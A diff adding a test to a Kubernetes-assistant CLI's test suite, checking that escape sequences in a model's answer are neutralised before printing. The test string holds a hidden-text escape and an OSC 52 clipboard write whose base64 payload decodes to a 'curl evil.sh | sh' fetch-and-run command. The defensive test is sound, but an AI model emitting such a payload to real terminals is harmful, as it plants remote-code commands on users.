@@ -286,3 +286,13 @@ def test_piped_input_through_a_real_pipe_without_a_model(fake_kubectl: FakeKubec
     assert proc.returncode == OK, proc.stderr
     assert "the attached text is for a language model" in proc.stdout
     assert [c[1] for c in fake_kubectl.commands()] == ["logs"]  # the piped lines planned nothing
+
+
+def test_the_answer_cannot_drive_the_terminal(cli_env: Path, fake_kubectl: FakeKubectl,
+                                              capsys: pytest.CaptureFixture[str]) -> None:
+    hostile = "Fixed.\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[8mhidden\x1b[0m\r\nok"
+    with serve(ScriptedModel([hostile])):
+        assert main(["--config", str(cli_env), "ask", "is web fine?"]) == OK
+    out = capsys.readouterr().out
+    assert "\x1b" not in out and "\x07" not in out and "\r" not in out
+    assert out.startswith("Fixed.\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x1b[8mhidden\\x1b[0m\\x0d\nok")
